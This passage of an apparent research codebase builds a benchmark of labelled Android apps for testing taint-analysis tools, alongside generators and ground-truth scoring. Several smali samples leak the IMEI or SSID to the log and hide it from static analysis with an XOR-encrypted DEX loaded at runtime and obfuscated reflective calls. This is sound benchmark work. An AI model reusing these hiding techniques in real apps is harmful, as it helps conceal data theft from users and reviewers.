    _add_default_init,
    _call_worker,
    _emit_run_all,
    _emit_worker_method,
)
from repro.dex.builder import DexBuilder
from repro.runtime.apk import Apk

#: Descriptor namespace of the corpus-wide library classes.
SHARED_NAMESPACE = "Lshared/"


@dataclass
class SharedCorpusApp:
    """One generated app plus its sharing inventory."""

    apk: Apk
    package: str
    main_activity: str
    shared_classes: list[str] = field(default_factory=list)
    unique_classes: list[str] = field(default_factory=list)
    #: Methods executed by a standard launch, split by provenance.
    shared_method_count: int = 0
    unique_method_count: int = 0

    @property
    def shared_fraction(self) -> float:
        total = self.shared_method_count + self.unique_method_count
        return self.shared_method_count / total if total else 0.0


def shared_class_desc(index: int) -> str:
    return f"{SHARED_NAMESPACE}Lib{index};"


def _emit_library_class(builder: DexBuilder, cls_desc: str,
                        class_seed: int, methods_per_class: int) -> int:
    """Emit one worker class whose bytecode is a pure function of
    ``class_seed`` — the determinism that makes it shareable."""
    rng = random.Random(class_seed)
    cls = builder.add_class(cls_desc)
    _add_default_init(cls)
    methods = []
    for m in range(methods_per_class):
        name = f"step{m}"
        _emit_worker_method(cls, name, rng, handler=False)
        methods.append(name)
    _emit_run_all(cls, cls_desc, methods)
    # <init> + runAll + the step methods, all executed by runAll.
    return methods_per_class + 2


def build_shared_corpus_app(
    package: str,
    *,
    shared_libs: int = 8,
    unique_classes: int = 2,
    methods_per_class: int = 6,
    corpus_seed: int = 11,
    app_seed: int = 0,
) -> SharedCorpusApp:
    """One corpus member: the shared library pool plus its own code.

    ``corpus_seed`` pins the shared classes (identical across every app
    built with the same value); ``app_seed`` pins the app-private
    classes (vary it per app so unique code differs in *content*, not
    just namespace).
    """
    builder = DexBuilder()
    ns = "L" + package.replace(".", "/")
    main_cls = f"{ns}/MainActivity;"

    shared = []
    shared_methods = 0
    for i in range(shared_libs):
        desc = shared_class_desc(i)
        shared_methods += _emit_library_class(
            builder, desc, corpus_seed * 1009 + i, methods_per_class)
        shared.append(desc)

    unique = []
    unique_methods = 0
    rng = random.Random(corpus_seed * 7919 + app_seed)
    for u in range(unique_classes):
        desc = f"{ns}/Worker{u};"
        cls = builder.add_class(desc)
        _add_default_init(cls)
        methods = []
        for m in range(methods_per_class):
            name = f"step{m}"
            _emit_worker_method(cls, name, rng, handler=False)
            methods.append(name)
        _emit_run_all(cls, desc, methods)
        unique_methods += methods_per_class + 2
        unique.append(desc)

    cls = builder.add_class(main_cls, superclass="Landroid/app/Activity;")
    mb = cls.method("onCreate", "V", ("Landroid/os/Bundle;",),
                    locals_count=4)
    for desc in shared + unique:
        _call_worker(mb, desc)
    mb.ret_void()
    mb.build()
    unique_methods += 1  # onCreate itself

    dex = builder.build()
    return SharedCorpusApp(
        apk=Apk(package, main_cls, [dex]),
        package=package,
        main_activity=main_cls,
        shared_classes=shared,
        unique_classes=unique,
        shared_method_count=shared_methods,
        unique_method_count=unique_methods,
    )


def build_shared_corpus(
    app_count: int,
    *,
    shared_libs: int = 8,
    unique_classes: int = 2,
    methods_per_class: int = 6,
    corpus_seed: int = 11,
    package_prefix: str = "com.corpus",
) -> list[SharedCorpusApp]:
    """``app_count`` apps all embedding the same library pool.

    Packages are ``<package_prefix>.app<i>``; rebuild with a different
    prefix (same ``corpus_seed``) for a second wave of *new* apps whose
    shared code the corpus index already knows — the warm half of a
    cold/warm dedup comparison.
    """
    return [
        build_shared_corpus_app(
            f"{package_prefix}.app{i}",
            shared_libs=shared_libs,
            unique_classes=unique_classes,
            methods_per_class=methods_per_class,
            corpus_seed=corpus_seed,
            app_seed=i,
        )
        for i in range(app_count)
    ]
