"""The assembled DroidBench-analogue: 134 samples, 111 leaky.

119 "release" samples plus the paper's 15 contributions (5 advanced
reflection, 3 dynamic loading, 4 self-modifying, 3 unreachable flows),
mirroring §V-B's corpus statistics.
"""

from __future__ import annotations

from repro.benchsuite.categories import (
    aliasing,
    arrays,
    callbacks,
    dynload,
    emulator,
    fieldsense,
    general_java,
    icc,
    implicit,
    lifecycle,
    reflection,
    selfmod,
    storage,
    threading,
    unreachable,
)
from repro.benchsuite.groundtruth import Sample

_MODULES = (
    general_java,
    lifecycle,
    callbacks,
    fieldsense,
    arrays,
    aliasing,
    threading,
    icc,
    implicit,
    reflection,
    emulator,
    storage,
    dynload,
    selfmod,
    unreachable,
)


def droidbench_samples() -> list[Sample]:
    """All 134 samples in deterministic order."""
    out: list[Sample] = []
    for module in _MODULES:
        out.extend(module.samples())
    names = [s.name for s in out]
    assert len(names) == len(set(names)), "duplicate sample names"
    return out


def suite_statistics() -> dict:
    samples = droidbench_samples()
    leaky = [s for s in samples if s.leaky]
    return {
        "total": len(samples),
        "leaky": len(leaky),
        "benign": len(samples) - len(leaky),
        "paper_contributed": sum(1 for s in samples if s.added_by_paper),
        "categories": sorted({s.category for s in samples}),
    }


def sample_by_name(name: str) -> Sample:
    for sample in droidbench_samples():
        if sample.name == name:
            return sample
    raise KeyError(name)


TABLE_IV_SAMPLES = (
    "Button1",
    "Button3",
    "EmulatorDetection1",
    "ImplicitFlow1",
    "PrivateDataLeak3",
)
