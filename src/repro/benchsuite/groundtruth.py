"""Ground-truth model for benchmark samples.

Every sample declares whether it *actually* leaks at runtime (the
DroidBench-style label), how many distinct (source tag, sink channel)
pairs flow, and which categories it belongs to.  Labels are validated by
executing each sample against the runtime's provenance oracle in the
test-suite — the declared truth must match observed behaviour.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable

from repro.runtime.apk import Apk
from repro.runtime.device import NEXUS_5X, DeviceProfile


@dataclass(frozen=True)
class Sample:
    """One benchmark application with ground truth."""

    name: str
    category: str
    leaky: bool
    build: Callable[[], Apk]
    # Distinct (tag, sink signature) pairs the runtime provenance oracle
    # observes under the standard drive.  -1 means "default": 1 for leaky
    # samples, 0 for benign.  Implicit-flow samples are leaky with
    # expected_leaks=0 — ground truth says they leak, but no *explicit*
    # flow exists for the oracle (or any explicit-only tracker) to see.
    expected_leaks: int = -1
    description: str = ""
    device: DeviceProfile = NEXUS_5X
    added_by_paper: bool = False  # one of the 15 samples the paper contributes

    def build_apk(self) -> Apk:
        return self.build()

    def __post_init__(self) -> None:
        if self.expected_leaks < 0:
            object.__setattr__(self, "expected_leaks", 1 if self.leaky else 0)


@dataclass
class SampleOutcome:
    """Per-sample, per-tool observation used for Table II/III scoring."""

    sample: Sample
    detected: bool
    flow_count: int = 0

    @property
    def is_tp(self) -> bool:
        return self.sample.leaky and self.detected

    @property
    def is_fp(self) -> bool:
        return (not self.sample.leaky) and self.detected
