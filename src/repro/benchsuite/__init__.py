"""Benchmark corpora: the DroidBench analogue plus app generators."""

from repro.benchsuite.aosp_apps import AOSP_APP_SPECS, AospApp, all_aosp_apps, build_aosp_app
from repro.benchsuite.codegen import (
    AppProfile,
    GeneratedApp,
    add_leak_sites,
    generate_app,
)
from repro.benchsuite.fdroid_apps import (
    FDROID_APP_SPECS,
    FDroidApp,
    all_fdroid_apps,
    build_fdroid_app,
)
from repro.benchsuite.groundtruth import Sample, SampleOutcome
from repro.benchsuite.market_apps import (
    LAUNCH_APP_SPECS,
    MARKET_APP_SPECS,
    LaunchApp,
    MarketApp,
    all_launch_apps,
    all_market_apps,
    build_market_app,
)
from repro.benchsuite.suite import (
    TABLE_IV_SAMPLES,
    droidbench_samples,
    sample_by_name,
    suite_statistics,
)

__all__ = [
    "AOSP_APP_SPECS",
    "AospApp",
    "AppProfile",
    "FDROID_APP_SPECS",
    "FDroidApp",
    "GeneratedApp",
    "LAUNCH_APP_SPECS",
    "LaunchApp",
    "MARKET_APP_SPECS",
    "MarketApp",
    "Sample",
    "SampleOutcome",
    "TABLE_IV_SAMPLES",
    "add_leak_sites",
    "all_aosp_apps",
    "all_fdroid_apps",
    "all_launch_apps",
    "all_market_apps",
    "build_aosp_app",
    "build_fdroid_app",
    "build_market_app",
    "droidbench_samples",
    "generate_app",
    "sample_by_name",
    "suite_statistics",
]
