"""F-Droid application analogues (Tables VI and VII).

Five apps sized to the paper's samples, generated with the coverage
profile §V-D describes: roughly a third of the code reachable by fuzzing
alone, half gated behind inputs force execution can unlock, and a
residue of dead code, native-crash-blocked code and never-taken
exception handlers (the paper's three categories of missed instructions).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.benchsuite.codegen import AppProfile, GeneratedApp, generate_app

_COVERAGE_PROFILE = AppProfile(gated=0.50, dead=0.08, crash=0.05, handler=0.05)

# (package, version, paper instruction count, seed)
FDROID_APP_SPECS = (
    ("be.ppareit.swiftp", "2.14.2", 8_812, 201),
    ("fr.gaulupeau.apps.InThePoche", "2.0.0b1", 29_231, 202),
    ("org.gnucash.android", "2.1.7", 56_565, 203),
    ("org.liberty.android.fantastischmemopro", "10.9.993", 57_575, 204),
    ("com.fastaccess.github", "2.1.0", 93_913, 205),
)


@dataclass
class FDroidApp:
    package: str
    version: str
    paper_instructions: int
    generated: GeneratedApp

    @property
    def apk(self):
        return self.generated.apk

    @property
    def instruction_count(self) -> int:
        return self.generated.instruction_count


def build_fdroid_app(package: str) -> FDroidApp:
    for pkg, version, target, seed in FDROID_APP_SPECS:
        if pkg == package:
            generated = generate_app(pkg, target, seed=seed,
                                     profile=_COVERAGE_PROFILE)
            return FDroidApp(pkg, version, target, generated)
    raise KeyError(package)


def all_fdroid_apps() -> list[FDroidApp]:
    return [build_fdroid_app(pkg) for pkg, *_ in FDROID_APP_SPECS]
