"""AOSP open-source application analogues (Table I).

Four fully-exercising apps sized to the paper's instruction counts:
HTMLViewer 217, Calculator 2,507, Calendar 78,598, Contacts 103,602.
``onCreate`` reaches every generated method, so the reassembled DEX must
contain the complete program — the property RQ1 verifies by instruction
and call-graph comparison.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.benchsuite.codegen import AppProfile, GeneratedApp, generate_app

# (name, package, paper's instruction count, seed)
AOSP_APP_SPECS = (
    ("HTMLViewer", "com.android.htmlviewer", 217, 101),
    ("Calculator", "com.android.calculator2", 2_507, 102),
    ("Calendar", "com.android.calendar", 78_598, 103),
    ("Contacts", "com.android.contacts", 103_602, 104),
)


@dataclass
class AospApp:
    name: str
    paper_instructions: int
    generated: GeneratedApp

    @property
    def apk(self):
        return self.generated.apk

    @property
    def instruction_count(self) -> int:
        return self.generated.instruction_count


def build_aosp_app(name: str) -> AospApp:
    for app_name, package, target, seed in AOSP_APP_SPECS:
        if app_name == name:
            generated = generate_app(package, target, seed=seed,
                                     profile=AppProfile())
            return AospApp(app_name, target, generated)
    raise KeyError(name)


def all_aosp_apps() -> list[AospApp]:
    return [build_aosp_app(name) for name, *_ in AOSP_APP_SPECS]
