"""Dynamic-loading samples (3 of the paper's 15 contributed samples).

The leaking code lives in a *secondary DEX* that only exists inside
``assets/`` (plain, or encrypted and dropped at runtime).  Static tools
analyse ``classes.dex`` and find nothing; at runtime the code registers
through the class linker — the same flow DexLego collects (§III-A) — so
the revealed DEX contains it as ordinary classes.
"""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import activity_class, helper_suffix, make_sample_apk
from repro.dex import assemble
from repro.dex.writer import write_dex


def _payload_runnable(cls: str) -> bytes:
    """Secondary DEX: a Runnable whose run() leaks the IMEI."""
    text = activity_class(cls, f"""
.method public <init>()V
    .registers 1
    invoke-direct {{p0}}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public run()V
    .registers 4
    new-instance v0, Landroid/telephony/TelephonyManager;
    invoke-direct {{v0}}, Landroid/telephony/TelephonyManager;-><init>()V
    invoke-virtual {{v0}}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    const-string v1, "PLUGIN"
    invoke-static {{v1, v0}}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method
""", superclass="Ljava/lang/Object;", implements="Ljava/lang/Runnable;")
    return write_dex(assemble(text))


def _payload_listener(cls: str) -> bytes:
    """Secondary DEX: an OnClickListener whose onClick leaks the SSID."""
    text = activity_class(cls, f"""
.method public <init>()V
    .registers 1
    invoke-direct {{p0}}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public onClick(Landroid/view/View;)V
    .registers 5
    new-instance v0, Landroid/net/wifi/WifiManager;
    invoke-direct {{v0}}, Landroid/net/wifi/WifiManager;-><init>()V
    invoke-virtual {{v0}}, Landroid/net/wifi/WifiManager;->getConnectionInfo()Landroid/net/wifi/WifiInfo;
    move-result-object v0
    invoke-virtual {{v0}}, Landroid/net/wifi/WifiInfo;->getSSID()Ljava/lang/String;
    move-result-object v0
    const-string v1, "PLUGIN2"
    invoke-static {{v1, v0}}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method
""", superclass="Ljava/lang/Object;",
        implements="Landroid/view/View$OnClickListener;")
    return write_dex(assemble(text))


def _plain_load_sample() -> Sample:
    """DynLoad0: plain DEX in assets, loaded and run as a Runnable."""
    main = "Lde/bench/dynload/DynLoad0;"
    payload_cls = "Lde/bench/dynload/Plugin0;"
    human = payload_cls[1:-1].replace("/", ".")
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 8
    new-instance v0, Ldalvik/system/DexClassLoader;
    const-string v1, "plugin0.dex"
    invoke-direct {{v0, v1}}, Ldalvik/system/DexClassLoader;-><init>(Ljava/lang/String;)V
    const-string v1, "{human}"
    invoke-virtual {{v0, v1}}, Ldalvik/system/DexClassLoader;->loadClass(Ljava/lang/String;)Ljava/lang/Class;
    move-result-object v2
    invoke-virtual {{v2}}, Ljava/lang/Class;->newInstance()Ljava/lang/Object;
    move-result-object v3
    check-cast v3, Ljava/lang/Runnable;
    invoke-interface {{v3}}, Ljava/lang/Runnable;->run()V
    return-void
.end method
"""
    smali = activity_class(main, body + helper_suffix(main))

    def build():
        return make_sample_apk(
            "de.bench.dynload.s0", main, smali,
            assets={"plugin0.dex": _payload_runnable(payload_cls)},
        )

    return Sample(
        name="DynLoad0", category="dynload", leaky=True, build=build,
        added_by_paper=True,
        description="plain secondary DEX from assets runs a leaky Runnable",
    )


def _encrypted_load_sample() -> Sample:
    """DynLoad1: payload XOR-decrypted in bytecode, dropped to a file,
    then loaded — no parseable DEX exists anywhere in the APK."""
    main = "Lde/bench/dynload/DynLoad1;"
    payload_cls = "Lde/bench/dynload/Plugin1;"
    human = payload_cls[1:-1].replace("/", ".")
    raw = _payload_runnable(payload_cls)
    key = 0x5C
    encrypted = bytes(b ^ key for b in raw)
    array_values = "\n".join(
        f"        {b - 256 if b >= 128 else b}" for b in encrypted
    )
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 10
    const v0, {len(encrypted)}
    new-array v1, v0, [B
    fill-array-data v1, :blob
    const/4 v2, 0
    :dec
    if-ge v2, v0, :dec_done
    aget-byte v3, v1, v2
    xor-int/lit8 v3, v3, {key}
    int-to-byte v3, v3
    aput-byte v3, v1, v2
    add-int/lit8 v2, v2, 1
    goto :dec
    :dec_done
    new-instance v4, Ljava/io/FileOutputStream;
    const-string v5, "/data/local/plugin1.dex"
    invoke-direct {{v4, v5}}, Ljava/io/FileOutputStream;-><init>(Ljava/lang/String;)V
    invoke-virtual {{v4, v1}}, Ljava/io/FileOutputStream;->write([B)V
    invoke-virtual {{v4}}, Ljava/io/FileOutputStream;->close()V
    new-instance v6, Ldalvik/system/DexClassLoader;
    invoke-direct {{v6, v5}}, Ldalvik/system/DexClassLoader;-><init>(Ljava/lang/String;)V
    const-string v7, "{human}"
    invoke-virtual {{v6, v7}}, Ldalvik/system/DexClassLoader;->loadClass(Ljava/lang/String;)Ljava/lang/Class;
    move-result-object v7
    invoke-virtual {{v7}}, Ljava/lang/Class;->newInstance()Ljava/lang/Object;
    move-result-object v8
    check-cast v8, Ljava/lang/Runnable;
    invoke-interface {{v8}}, Ljava/lang/Runnable;->run()V
    return-void
    :blob
    .array-data 1
{array_values}
    .end array-data
.end method
"""
    smali = activity_class(main, body + helper_suffix(main))

    def build():
        return make_sample_apk("de.bench.dynload.s1", main, smali)

    return Sample(
        name="DynLoad1", category="dynload", leaky=True, build=build,
        added_by_paper=True,
        description="XOR-encrypted payload decrypted in bytecode, dropped "
                    "to disk and loaded",
    )


def _listener_load_sample() -> Sample:
    """DynLoad2: loaded class registered as a click listener."""
    main = "Lde/bench/dynload/DynLoad2;"
    payload_cls = "Lde/bench/dynload/Plugin2;"
    human = payload_cls[1:-1].replace("/", ".")
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 8
    new-instance v0, Ldalvik/system/DexClassLoader;
    const-string v1, "plugin2.dex"
    invoke-direct {{v0, v1}}, Ldalvik/system/DexClassLoader;-><init>(Ljava/lang/String;)V
    const-string v1, "{human}"
    invoke-virtual {{v0, v1}}, Ldalvik/system/DexClassLoader;->loadClass(Ljava/lang/String;)Ljava/lang/Class;
    move-result-object v2
    invoke-virtual {{v2}}, Ljava/lang/Class;->newInstance()Ljava/lang/Object;
    move-result-object v3
    check-cast v3, Landroid/view/View$OnClickListener;
    const/16 v4, 99
    invoke-virtual {{p0, v4}}, {main}->findViewById(I)Landroid/view/View;
    move-result-object v4
    invoke-virtual {{v4, v3}}, Landroid/view/View;->setOnClickListener(Landroid/view/View$OnClickListener;)V
    return-void
.end method
"""
    smali = activity_class(main, body + helper_suffix(main))

    def build():
        return make_sample_apk(
            "de.bench.dynload.s2", main, smali,
            assets={"plugin2.dex": _payload_listener(payload_cls)},
        )

    return Sample(
        name="DynLoad2", category="dynload", leaky=True, build=build,
        added_by_paper=True,
        description="dynamically loaded click listener leaks on click",
    )


def samples() -> list[Sample]:
    return [_plain_load_sample(), _encrypted_load_sample(), _listener_load_sample()]
