"""Reflection samples: constant-string reflection plus the paper's five
advanced-reflection additions.

``ReflectConst*`` use plain constant strings — every tool resolves them.
``ReflectAdv*`` (contributed by the paper) hide the target: the name
string is assembled at runtime, XOR-"decrypted", read from a character
array, or no string is involved at all (``getMethods()`` indexing).
Static tools fail on all five; DexLego's runtime rewrite (§IV-D) turns
them into direct calls.
"""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import activity_class, helper_suffix, make_sample_apk

_SINK_BODY = """
.method public deliver(Ljava/lang/String;)V
    .registers 3
    invoke-virtual {p0, p1}, %(cls)s->logIt(Ljava/lang/String;)V
    return-void
.end method
"""


def _invoke_reflectively(cls: str, get_name_code: str) -> str:
    """onCreate body: resolve `deliver` via reflection and call it.

    Ten registers: v0-v7 scratch, p0/p1 land on v8/v9.
    """
    return f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 10
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
{get_name_code}
    invoke-virtual {{p0}}, Ljava/lang/Object;->getClass()Ljava/lang/Class;
    move-result-object v2
    invoke-virtual {{v2, v1}}, Ljava/lang/Class;->getMethod(Ljava/lang/String;)Ljava/lang/reflect/Method;
    move-result-object v3
    const/4 v4, 1
    new-array v5, v4, [Ljava/lang/Object;
    const/4 v4, 0
    aput-object v0, v5, v4
    invoke-virtual {{v3, p0, v5}}, Ljava/lang/reflect/Method;->invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;
    return-void
.end method
"""


def _const_sample(index: int) -> Sample:
    cls = f"Lde/bench/reflect/ReflectConst{index};"
    if index % 2 == 0:
        # Class.forName with constant class name + constant method name.
        human = cls[1:-1].replace("/", ".")
        body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 8
    invoke-virtual {{p0}}, {cls}->getImei()Ljava/lang/String;
    move-result-object v0
    const-string v1, "{human}"
    invoke-static {{v1}}, Ljava/lang/Class;->forName(Ljava/lang/String;)Ljava/lang/Class;
    move-result-object v2
    const-string v1, "deliver"
    invoke-virtual {{v2, v1}}, Ljava/lang/Class;->getMethod(Ljava/lang/String;)Ljava/lang/reflect/Method;
    move-result-object v3
    const/4 v4, 1
    new-array v5, v4, [Ljava/lang/Object;
    const/4 v4, 0
    aput-object v0, v5, v4
    invoke-virtual {{v3, p0, v5}}, Ljava/lang/reflect/Method;->invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;
    return-void
.end method
"""
    else:
        body = _invoke_reflectively(cls, '    const-string v1, "deliver"')
    smali = activity_class(
        cls, body + (_SINK_BODY % {"cls": cls}) + helper_suffix(cls)
    )

    def build():
        return make_sample_apk(f"de.bench.reflect.const{index}", cls, smali)

    return Sample(
        name=f"ReflectConst{index}", category="reflection", leaky=True,
        build=build, description="constant-string reflection (all tools solve)",
    )


def _adv_concat() -> Sample:
    """Method name assembled from two halves at runtime."""
    cls = "Lde/bench/reflect/ReflectAdv0;"
    name_code = """
    const-string v1, "del"
    const-string v6, "iver"
    invoke-virtual {v1, v6}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v1
"""
    smali = activity_class(
        cls,
        _invoke_reflectively(cls, name_code)
        + (_SINK_BODY % {"cls": cls})
        + helper_suffix(cls),
    )

    def build():
        return make_sample_apk("de.bench.reflect.adv0", cls, smali)

    return Sample(
        name="ReflectAdv0", category="reflection_adv", leaky=True, build=build,
        added_by_paper=True,
        description="method name concatenated at runtime",
    )


def _adv_xor() -> Sample:
    """Method name XOR-decrypted from a byte array in pure bytecode."""
    cls = "Lde/bench/reflect/ReflectAdv1;"
    encrypted = [ord(c) ^ 0x2A for c in "deliver"]
    array_values = "\n".join(f"        {b}" for b in encrypted)
    name_code = f"""
    const/4 v6, 7
    new-array v6, v6, [B
    fill-array-data v6, :enc
    const/4 v1, 0
    :dec_loop
    const/4 v7, 7
    if-ge v1, v7, :dec_done
    aget-byte v7, v6, v1
    xor-int/lit8 v7, v7, 42
    int-to-byte v7, v7
    aput-byte v7, v6, v1
    add-int/lit8 v1, v1, 1
    goto :dec_loop
    :dec_done
    new-instance v1, Ljava/lang/StringBuilder;
    invoke-direct {{v1}}, Ljava/lang/StringBuilder;-><init>()V
    const/4 v7, 0
    :cat_loop
    const/4 v2, 7
    if-ge v7, v2, :cat_done
    aget-byte v2, v6, v7
    int-to-char v2, v2
    invoke-virtual {{v1, v2}}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
    add-int/lit8 v7, v7, 1
    goto :cat_loop
    :cat_done
    invoke-virtual {{v1}}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    goto :name_done
    :enc
    .array-data 1
{array_values}
    .end array-data
    :name_done
"""
    smali = activity_class(
        cls,
        _invoke_reflectively(cls, name_code)
        + (_SINK_BODY % {"cls": cls})
        + helper_suffix(cls),
    )

    def build():
        return make_sample_apk("de.bench.reflect.adv1", cls, smali)

    return Sample(
        name="ReflectAdv1", category="reflection_adv", leaky=True, build=build,
        added_by_paper=True,
        description="method name XOR-decrypted at runtime (Harvester-style)",
    )


def _adv_no_string() -> Sample:
    """Reflective call without any string: getMethods() + index."""
    cls = "Lde/bench/reflect/ReflectAdv2;"
    # deliver() is alphabetically first among the public methods we add
    # once helpers are renamed with z-prefixes; select index 0.
    body = f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 8
    invoke-virtual {{p0}}, {cls}->zsrc()Ljava/lang/String;
    move-result-object v0
    invoke-virtual {{p0}}, Ljava/lang/Object;->getClass()Ljava/lang/Class;
    move-result-object v2
    invoke-virtual {{v2}}, Ljava/lang/Class;->getMethods()[Ljava/lang/reflect/Method;
    move-result-object v3
    const/4 v4, 0
    aget-object v3, v3, v4
    const/4 v4, 1
    new-array v5, v4, [Ljava/lang/Object;
    const/4 v4, 0
    aput-object v0, v5, v4
    invoke-virtual {{v3, p0, v5}}, Ljava/lang/reflect/Method;->invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;
    return-void
.end method

.method public deliver(Ljava/lang/String;)V
    .registers 4
    const-string v0, "LEAK"
    invoke-static {{v0, p1}}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

.method public zsrc()Ljava/lang/String;
    .registers 3
    const-string v0, "phone"
    invoke-virtual {{p0, v0}}, {cls}->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {{v0}}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method
"""
    smali = activity_class(cls, body)

    def build():
        return make_sample_apk("de.bench.reflect.adv2", cls, smali)

    return Sample(
        name="ReflectAdv2", category="reflection_adv", leaky=True, build=build,
        added_by_paper=True,
        description="string-free reflective call via getMethods() index",
    )


def _adv_chararray() -> Sample:
    """Name built from a char array (no string constant anywhere)."""
    cls = "Lde/bench/reflect/ReflectAdv3;"
    chars = [ord(c) for c in "deliver"]
    array_values = "\n".join(f"        {c}" for c in chars)
    name_code = f"""
    const/4 v6, 7
    new-array v6, v6, [C
    fill-array-data v6, :chars
    new-instance v1, Ljava/lang/StringBuilder;
    invoke-direct {{v1}}, Ljava/lang/StringBuilder;-><init>()V
    const/4 v7, 0
    :loop
    const/4 v2, 7
    if-ge v7, v2, :done
    aget-char v2, v6, v7
    invoke-virtual {{v1, v2}}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
    add-int/lit8 v7, v7, 1
    goto :loop
    :done
    invoke-virtual {{v1}}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    goto :name_done
    :chars
    .array-data 2
{array_values}
    .end array-data
    :name_done
"""
    smali = activity_class(
        cls,
        _invoke_reflectively(cls, name_code)
        + (_SINK_BODY % {"cls": cls})
        + helper_suffix(cls),
    )

    def build():
        return make_sample_apk("de.bench.reflect.adv3", cls, smali)

    return Sample(
        name="ReflectAdv3", category="reflection_adv", leaky=True, build=build,
        added_by_paper=True,
        description="method name from char array",
    )


def _adv_field_name() -> Sample:
    """Target name stored in a static field set by <clinit> arithmetic."""
    cls = "Lde/bench/reflect/ReflectAdv4;"
    body = f"""
.method static constructor <clinit>()V
    .registers 4
    const-string v0, "reviled"
    new-instance v1, Ljava/lang/StringBuilder;
    invoke-direct {{v1}}, Ljava/lang/StringBuilder;-><init>()V
    const/4 v2, 6
    :loop
    if-ltz v2, :done
    invoke-virtual {{v0, v2}}, Ljava/lang/String;->charAt(I)C
    move-result v3
    invoke-virtual {{v1, v3}}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
    add-int/lit8 v2, v2, -1
    goto :loop
    :done
    invoke-virtual {{v1}}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    sput-object v0, {cls}->hidden:Ljava/lang/String;
    return-void
.end method
""" + _invoke_reflectively(cls, f"    sget-object v1, {cls}->hidden:Ljava/lang/String;")
    smali = activity_class(
        cls,
        body + (_SINK_BODY % {"cls": cls}) + helper_suffix(cls),
        fields=".field public static hidden:Ljava/lang/String;",
    )

    def build():
        return make_sample_apk("de.bench.reflect.adv4", cls, smali)

    return Sample(
        name="ReflectAdv4", category="reflection_adv", leaky=True, build=build,
        added_by_paper=True,
        description="method name is a reversed string computed in <clinit>",
    )


def samples() -> list[Sample]:
    out = [_const_sample(i) for i in range(6)]
    out += [_adv_concat(), _adv_xor(), _adv_no_string(), _adv_chararray(),
            _adv_field_name()]
    return out
