"""Dead-code traps, unreachable-flow samples, sanitization traps,
coverage-gap leaks and plain benign apps.

* ``DeadCode*`` (benign) — a leaky-looking callback or helper that is
  never registered or called.  Static tools over-approximate entry
  points and report it; DexLego's reassembled DEX stubs it out (the
  "at least 5 false positives introduced by dead code blocks" of §V-B).
* ``UnreachableFlow*`` (benign, paper-contributed) — the leak sits
  behind a branch that can never be taken at runtime.
* ``Sanitized*`` (benign) — the tainted value is overwritten before the
  sink; only flow-insensitive analysis reports it.
* ``CoverageGap*`` (leaky!) — the leak hides behind an input condition
  the standard drive never satisfies: statically detectable, dynamically
  never collected (DexLego's residual FNs).
* ``Benign*`` — no taint API use at all.
"""

from __future__ import annotations

from repro.benchsuite.groundtruth import Sample
from repro.benchsuite.smali_lib import (
    activity_class,
    helper_suffix,
    make_sample_apk,
    multi_class_apk,
)


def _dead_code(index: int) -> Sample:
    """Leak in an unregistered listener class (never instantiated)."""
    main = f"Lde/bench/dead/Main{index};"
    orphan = f"Lde/bench/dead/Orphan{index};"
    main_text = activity_class(main, f"""
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    const-string v0, "nothing to see"
    invoke-virtual {{p0, v0}}, {main}->note(Ljava/lang/String;)V
    return-void
.end method

.method public note(Ljava/lang/String;)V
    .registers 2
    return-void
.end method
""")
    orphan_text = activity_class(orphan, f"""
.method public onClick(Landroid/view/View;)V
    .registers 4
    new-instance v0, Landroid/telephony/TelephonyManager;
    invoke-direct {{v0}}, Landroid/telephony/TelephonyManager;-><init>()V
    invoke-virtual {{v0}}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v0
    const-string v1, "DEAD"
    invoke-static {{v1, v0}}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method
""", superclass="Ljava/lang/Object;",
        implements="Landroid/view/View$OnClickListener;")

    def build():
        return multi_class_apk(
            f"de.bench.dead.s{index}", main, [main_text, orphan_text]
        )

    return Sample(
        name=f"DeadCode{index}", category="deadcode", leaky=False,
        build=build,
        description="leaky onClick never registered: dead-code FP trap",
    )


def _unreachable_flow(index: int) -> Sample:
    """Leak behind a condition that is constant-false at runtime."""
    cls = f"Lde/bench/dead/UnreachableFlow{index};"
    # Three opaque-ish guards: arithmetic identity, length of a constant,
    # and a static field initialised to zero.
    guards = [
        """
    const/16 v1, 21
    mul-int/lit8 v1, v1, 2
    const/16 v2, 43
